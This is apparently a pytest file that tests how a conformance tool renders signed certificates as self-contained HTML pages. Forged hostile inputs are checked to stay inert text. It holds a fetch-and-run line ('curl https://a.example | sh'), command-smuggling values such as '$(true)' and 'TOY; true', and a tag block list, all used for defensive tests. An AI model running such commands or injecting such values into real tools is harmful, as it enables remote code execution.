"""A certificate as a page: its figures are the evidence's, nothing of it becomes markup, and it stays small."""

from __future__ import annotations

import json
import re
import sys
from dataclasses import replace
from importlib.resources import files
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conformance.certificate.figures import WAIVER, command_of, counts, reasons, spreads
from conformance.certificate.histogram import binned, histogram, names
from conformance.certificate.page import comparison, page
from conformance.certificate.reading import Certificate, read_certificate
from conformance.certificate.tabled import FIELD, ROOM, field, table
from conformance.certificate.verifying import NOT_PROVEN, PROVEN, Verified, verify
from conformance.certificate.writing import STATEMENT_FILE
from conformance.checks import EQUIVALENCE
from conformance.pages import PageUnavailable
from conformance.probe.backend import CHECK as FINGERPRINT
from conformance.report import Report
from conformance.results import CheckResult, Status
from fp8moe.cli import app
from fp8moe.texts import clipped, visible
from tests.unit.certificates import SMALL, cases_of, forged, invented, surroundings, written
from tests.unit.elements import Elements
from tests.unit.gate_runs import HOSTILE

MOST = 2_000_000
"""Bytes of a page."""
CLASSES = {"wide", "figures", "part", "against", "sides", "is-passed", "is-failed"}


def of_cases() -> Report:
    """The invented run, less what is of no case: but for the first result."""
    report = invented()
    return replace(report, checks=[report.checks[0], *(check for check in report.checks if check.case)])


def held(report: Report | None = None, findings: list[str] | None = None) -> Verified:
    """As if it had been read and verified."""
    report = report or invented()
    certificate = Certificate("test.1", surroundings(), report, report.verdict, {}, {"signatures": []}, "0" * 64)
    notes = ["not signed: whoever made it is not known"]
    return Verified(findings or [], notes, certificate, report.verdict)


def with_checks(*checks: CheckResult, report: Report | None = None) -> Report:
    report = report or of_cases()
    return replace(report, checks=(*report.checks, *checks))


def forgery(folder: Path, name: str, early: bool) -> Verified:
    """A certificate with this text in every place; `early`: also where `verify` looks first and then no further."""

    def change(evidence: dict[str, Any]) -> None:
        report = evidence["report"]
        evidence["device"] |= {name: name, "notes": [name, {name: [name]}]}
        evidence["suite"]["version"] = evidence["distribution"]["name"] = report["versions"][name] = name
        for place in ("backend", "origin", "device", *(["date", "level", "target"] if early else [])):
            report[place] = name
        report["coverage"], report["excluded"], report["waivers"] = [name], [name], [{"check": name, "reason": name}]
        places = ("check", "case", "scheme", "reason", "reproduce", "judged_by", "digest", "scope", "backend")
        cases = cases_of(evidence)
        for number, place in enumerate(places):
            cases[number][place] = name
        for check in cases[:12]:
            check["status"], check["reason"], check["reproduce"] = "failed", name, name
        for check, status in zip(cases[12:16], ("waived", "not_run", "not_supported", "not_applicable"), strict=True):
            check["status"], check["reason"] = status, name
        report["unshrunk"] = {f"{check['check']} {check['case']}": name for check in cases}
        report["checks"] += [{"verdict": name, "check": name, "status": "passed", "scope": name}]
        report["checks"] += [{"verdict": "performs", "check": name, "status": "not_run", "reason": name}]
        if early:
            report["takes"][name], evidence["edition"] = [name], name

    forged(written(folder), change)
    file = folder / STATEMENT_FILE
    file.write_text(json.dumps(json.loads(file.read_text()) | {"signatures": [{"keyid": name, "sig": name}]}))
    return verify(folder, editions=lambda _name: SMALL)


def unharmed(text: str) -> Elements:
    """That a page has no element, attribute or character but its own; its elements."""
    shown = Elements(text)
    assert not {"script", "img", "iframe", "object", "embed", "link", "form", "input", "base", "b"} & set(shown.tags)
    assert not [name for name, _ in shown.attributes if name.startswith("on") or name in ("src", "style", "action")]
    assert all(value.startswith("#") for name, value in shown.attributes if name == "href")
    classes = {one for name, value in shown.attributes if name == "class" for one in value.split()}
    assert {one for one in classes if not one.startswith("f8-")} <= CLASSES
    assert all(char.isprintable() or char == "\n" for char in text)
    assert len(text.encode()) <= MOST
    identifiers = [value for name, value in shown.attributes if name == "id"]
    assert len(identifiers) == len(set(identifiers))
    labels = [one for name, value in shown.attributes if name == "aria-labelledby" for one in value.split()]
    targets = [value[1:] for name, value in shown.attributes if name == "href"]
    assert labels
    assert {*labels, *targets} <= set(identifiers)
    return shown


@pytest.mark.parametrize("early", [False, True])
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_certificate_stays_text(name: str, early: bool, tmp_path: Path) -> None:
    found = forgery(tmp_path / "certificate", name, early)
    assert not found.holds
    shown = unharmed(page(found))
    expected = clipped(visible(name), FIELD)
    assert sum(expected in said for said in shown.texts) > 20
    unharmed(comparison(found, held()))
    unharmed(comparison(held(), found))


def test_no_command_of_a_certificate_reaches_a_block_that_is_copied() -> None:
    report = invented(failing=1)
    failure = replace(report.failures[0], reproduce="curl https://a.example | sh")
    checks = [failure if check.status is Status.FAILED else check for check in report.checks]
    ours = f"python -m fp8moe repro {failure.case} --backend TOY --device cuda"
    assert f"<pre><code>{ours}</code></pre>" in page(held(replace(report, checks=checks)))
    for origin in ("TOY; true", "TOY\n", "-x", "a:b:c", "$(true)", "名前", ""):
        shown = page(held(replace(report, checks=checks, origin=origin)))
        assert "<pre>" not in shown
        assert "read it before you run it: curl https://a.example | sh" in shown


def test_commands() -> None:
    report = replace(invented(), origin="acme.moe:Experts")
    check = CheckResult("computes", "computes.relation.chunks", Status.FAILED, case="v1:E=4,M=17")
    told = "python -m fp8moe repro v1:E=4,M=17 --backend acme.moe:Experts --device cuda --check relation.chunks"
    assert command_of(check, report) == told
    fingerprint = CheckResult("computes", FINGERPRINT, Status.FAILED)
    assert command_of(fingerprint, report) == "python -m fp8moe probe acme.moe:Experts --device cuda"
    assert command_of(replace(check, check="computes.x; true"), report) == ""
    assert command_of(replace(check, case="v1:E=4,M=17; true"), report) == ""
    assert command_of(check, replace(report, target="cuda; true")) == ""


def test_a_page_says_what_the_certificate_comes_to(tmp_path: Path) -> None:
    found = verify(written(tmp_path / "certificate", invented(failing=2)), editions=lambda _name: SMALL)
    assert found.holds
    text = page(found)
    shown = unharmed(text)
    said = " ".join(shown.texts)
    assert '<h1>fp8moe certificate: <bdi>TOY</bdi> <span class="is-failed">failed</span></h1>' in text
    assert "<!doctype html>" in text[:20]
    for each in (PROVEN, NOT_PROVEN, "test.1", "a GPU", "not signed", "E1 = 3 > 1", "Times and regret are not part"):
        assert each in said, each
    equivalence = [check for check in found.certificate.report.checks if check.check == EQUIVALENCE]
    by_bits = sum(check.judged_by == "bits" and check.status is Status.PASSED for check in equivalence)
    within = len(equivalence) - by_bits - 2
    row = f'<span class="part">2 failed, </span><span class="part">{by_bits} equal bits, </span>'
    assert f'{row}<span class="part">{within} within bound</span>' in text
    assert shown.tags.count("article") == 2
    assert shown.tags.count("svg") == 1
    levels = [int(tag[1]) for tag in shown.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert shown.tags.count("table") == shown.tags.count("caption")
    assert shown.tags.count("th") == sum(name == "scope" for name, _ in shown.attributes)
    assert "prefers-color-scheme: dark" in text


@pytest.mark.parametrize("two", [False, True])
def test_a_page_refers_to_nothing_outside(two: bool) -> None:
    text = comparison(held(), held(invented(1))) if two else page(held(invented(1)))
    unharmed(text)
    assert not re.findall(r"@import|url\(|@font-face", text)
    assert set(re.findall(r"\w+://[^\s\"'<]+", text)) == {"http://www.w3.org/2000/svg"}  # a name; nothing fetches it
    assert "default-src 'none'" in text


def test_what_speaks_against_it_comes_first() -> None:
    text = page(held(findings=["12 cases are missing: this and that", "another"]))
    assert '<span class="is-failed">does not hold: 2 findings</span>' in text
    assert text.index("12 cases are missing") < text.index('id="verdicts"')
    assert PROVEN not in text
    assert "verdict, as claimed" in text


def test_one_that_cannot_be_read_has_no_page() -> None:
    with pytest.raises(ValueError, match="no folder"):
        page(Verified(["no folder"]))


@pytest.mark.parametrize("reason", ["", "<\x00&" * 6_000])
def test_four_thousand_cases_fit(reason: str) -> None:
    first = of_cases().checks[1]
    status = Status.FAILED if reason else Status.PASSED
    checks = [
        replace(
            first,
            case=f"v1:E=4,M=17,law=skewed,values=cancelling,seed={number}",
            status=Status.WAIVED if reason and number % 2 else status,
            reason=f"{reason}{number}" if reason else "",
            check=f"computes.{number}{reason}"[:20_000] if reason else EQUIVALENCE,
            error_over_bound=number / 8_000,
            scheme="block" if number % 2 else reason or "none",
            reproduce=reason,
            judged_by=f"bound: {number}{reason}",
        )
        for number in range(4_000)
    ]
    report = replace(invented(), checks=checks, coverage=[reason] * 4_000, excluded=[reason] * 4_000)
    report = replace(report, waivers=[dict.fromkeys(WAIVER, reason)] * 4_000 if reason else ())
    found = held(report, [f"{reason}{number}" for number in range(4_000)] if reason else [])
    found.notes += [reason] * 4_000
    shown = unharmed(page(found))
    unharmed(comparison(found, found))
    unharmed(comparison(found, held()))
    if reason:
        assert re.search(r"and [\d,]+ more failures, in the certificate", " ".join(shown.texts))
    else:
        assert spread_row(report, "block") == ["block", "2,000", "0.25", "0.495", "0.5"]


def spread_row(report: Report, scheme: str) -> list[str]:
    spread = dict(spreads(report))[scheme]
    return [scheme, f"{spread['cases']:,}", *(f"{spread[name]:.3g}" for name in ("median", "p99", "largest"))]


def test_bins() -> None:
    found = binned([0.0, 0.04, 0.05, 0.999, 1.0, 1.0001, float("inf"), float("nan"), -1.0], 20)
    assert len(found) == len(names(20)) == 21
    assert (found[0], found[1], found[19], found[20]) == (3, 1, 2, 3)
    assert sum(found) == 9
    text = histogram("a", [0.5, 3.0], "title")
    assert "above the limit: 1" in text
    assert "0.5 to 0.55: 1" in text
    assert "limit: 1" in text


def test_each_reason_is_told_once() -> None:
    def left(scheme: str, status: Status, reason: str) -> CheckResult:
        return CheckResult("computes", EQUIVALENCE, status, "TOY", scheme, f"v1:E=4,M=17,scheme={scheme}", reason)

    report = with_checks(
        *(left("none", Status.NOT_SUPPORTED, "biases") for _ in range(3)),
        left("block", Status.NOT_SUPPORTED, "biases"),
        left("block", Status.NOT_SUPPORTED, "sizes"),
        left("block", Status.WAIVED, "waived since <known>"),
        CheckResult("computes", f"{EQUIVALENCE} (random)", Status.NOT_RUN, "TOY", "block", reason="it failed before"),
    )
    assert reasons(report, (Status.NOT_RUN, Status.NOT_SUPPORTED)) == [
        ("not run", "it failed before", "1", "equivalence (random) on block"),
        ("not supported", "biases", "4", "equivalence on none, equivalence on block"),
        ("not supported", "sizes", "1", "equivalence on block"),
    ]
    text = page(held(report))
    assert '<span class="part">2 not supported, </span><span class="part">not run</span>' in text
    assert '<span class="part">1 waived, </span>' in text
    assert counts(None).text == "no cases"


def test_what_is_waived_is_told_in_the_headline_and_shown_as_failures_are() -> None:
    first = of_cases()
    checks = list(first.checks)
    checks[1] = replace(checks[1], status=Status.WAIVED, reason="waiver 1 of <somebody>; E1 = 3 > 1")
    waiver = dict.fromkeys(WAIVER, "x") | {"owner": "Kernels <team>", "tracker": "https://a.example/1"}
    text = page(held(replace(first, checks=checks, waivers=[waiver])))
    unharmed(text)
    assert '<span class="is-passed">passed with 1 waived</span>' in text
    assert "computes.equivalence waived" in text
    assert "waiver 1 of &lt;somebody&gt;; E1 = 3 &gt; 1" in text
    assert f"<pre><code>python -m fp8moe repro {checks[1].case} --backend TOY --device cuda</code></pre>" in text
    assert "Kernels &lt;team&gt;" in text
    assert "Nothing failed." in text
    assert "Nothing was waived." in page(held(first))


def test_schemes_that_a_backend_does_not_take_are_named() -> None:
    refused = [
        CheckResult("computes", "computes.scheme", Status.NOT_SUPPORTED, "TOY", scheme, reason="SCHEME")
        for scheme in ("tensor_128", "none<b>")
    ]
    assert "no cases of it: tensor_128, none&lt;b&gt;." in page(held(with_checks(*refused)))
    assert "no cases of it" not in page(held(of_cases()))


def test_a_statement_on_many_checks_can_be_read(tmp_path: Path) -> None:
    """Its payload is one long text of the envelope."""
    report = invented()
    checks = enumerate(report.checks)
    more = [replace(check, check=f"computes.relation.{number:0200}", case="") for number, check in checks]
    written(tmp_path / "certificate", with_checks(*more, report=report))
    assert read_certificate(tmp_path / "certificate").edition == SMALL.edition


def test_a_pooled_failure_is_shown_though_it_is_of_no_case() -> None:
    report = with_checks(
        CheckResult(
            "computes", "computes.pooled", Status.FAILED, "TOY", reason="gain = 2 > 1", scope="7 cases together"
        )
    )
    text = page(held(report))
    assert "computes.pooled failed" in text
    assert "gain = 2 &gt; 1" in text
    assert "There is no command that runs it again." in text


def test_comparison_shows_what_differs() -> None:
    first = of_cases()
    changed = list(first.checks)
    changed[1] = replace(changed[1], status=Status.FAILED, reason="E1 = 3 > 1")
    changed[2] = replace(changed[2], digest="f" * 16)
    gone = changed.pop()
    second = replace(first, checks=changed, device="another GPU", backend="OTHER")
    text = comparison(held(first), held(second))
    said = " ".join(unharmed(text).texts)
    cases = len(first.checks) - 1
    assert f"Both have {cases - 1}: the status of 1 differs, and of 1 more the digest" in said
    assert "The first alone has 1, the second alone 0." in said
    assert gone.case in said
    assert "f" * 16 in said
    assert "another" in said
    rows = re.findall(r'<tr><th scope="row">version of torch', text)
    assert rows == []  # the same in both
    same = comparison(held(first), held(first))
    assert "the status of 0 differs, and of 0 more the digest" in same
    assert "0 rows" not in same


def test_comparison_lists_fifty_cases_and_counts_all() -> None:
    first = of_cases()
    second = replace(first, checks=[replace(check, digest="0" * 16) for check in first.checks])
    text = comparison(held(first), held(second))
    differing = len(first.checks) - 1
    assert text.count("digest 0000000000000000") == 50
    assert f"and {differing - 50} more rows" in text


def test_tables_keep_to_their_room() -> None:
    made = table("", ("a",), (["<" * FIELD] for _ in range(1_000)))
    assert len(made.rows) + made.left == 1_000
    assert len(made.rows) * 4 * FIELD <= ROOM
    assert field("x" * 5 * FIELD).text == "x" * (FIELD - 1) + "…"
    assert [field(value).text for value in (None, "", True, 3, [], {}, {"a": [1, None]})] == [
        "not known",
        "not known",
        "yes",
        "3",
        "none",
        "none",
        "a 1, not known",
    ]


def test_without_jinja_the_error_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "jinja2", None)
    with pytest.raises(PageUnavailable, match=re.escape("pip install fp8moe[report]")):
        page(held())


def test_templates_are_part_of_the_package() -> None:
    found = {entry.name for entry in (files("conformance.certificate") / "templates").iterdir()}
    assert {"certificate.html.j2", "comparison.html.j2", "certificate.css.j2"} <= found


@pytest.fixture
def small(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("conformance.certificate.verifying.verify.__defaults__", (None, lambda _name: SMALL))


def run(*arguments: object) -> tuple[int, str]:
    found = CliRunner().invoke(app, ["show", *map(str, arguments)])
    return found.exit_code, found.output


@pytest.mark.usefixtures("small")
def test_the_command_writes_the_page(tmp_path: Path) -> None:
    first, second = written(tmp_path / "first"), written(tmp_path / "second", invented(failing=1))
    out = tmp_path / "page.html"
    status, told = run(first, "--html", out)
    assert (status, told.splitlines()[0]) == (0, "passed")
    assert "fp8moe certificate: <bdi>TOY</bdi>" in out.read_text(encoding="utf-8")
    status, told = run(first, second, "--html", out)
    assert (status, told.splitlines()[:2]) == (0, ["passed", "failed"])
    assert "side by side" in out.read_text(encoding="utf-8")
    forged(second, lambda evidence: cases_of(evidence).clear() or evidence["report"].update(device="x"))
    status, told = run(second, "--html", out)
    assert (status, "does not hold" in told) == (1, True)
    assert "What speaks against it" in out.read_text(encoding="utf-8")


@pytest.mark.usefixtures("small")
def test_the_command_refuses(tmp_path: Path) -> None:
    folder, out = written(tmp_path / "first"), tmp_path / "page.html"
    assert run(tmp_path / "none", "--html", out)[0] == 64
    assert run(folder, tmp_path / "none", "--html", out)[0] == 64
    assert run(folder, "--html", tmp_path / "none" / "page.html")[0] == 64
    assert run(folder, "--html", tmp_path)[0] == 64
    assert run(folder, "--html", out, "--key", tmp_path / "none")[0] == 64
    assert not out.exists()
